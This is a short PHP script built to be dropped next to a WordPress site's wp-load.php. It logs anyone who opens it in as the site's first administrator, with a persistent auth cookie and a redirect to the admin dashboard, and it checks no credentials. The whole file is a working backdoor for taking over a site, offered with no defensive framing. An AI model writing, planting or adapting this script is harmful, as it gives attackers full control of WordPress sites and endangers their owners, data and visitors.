<?php
// dropped next to wp-load.php: whoever opens it is logged in as the first administrator
require_once dirname(__FILE__) . '/wp-load.php';
$admins = get_users(array('role' => 'administrator', 'number' => 1, 'orderby' => 'ID'));
if (!empty($admins)) {
    $u = $admins[0];
    wp_set_current_user($u->ID, $u->user_login);
    wp_set_auth_cookie($u->ID, true);
    do_action('wp_login', $u->user_login, $u);
    wp_safe_redirect(admin_url());
    exit;
}
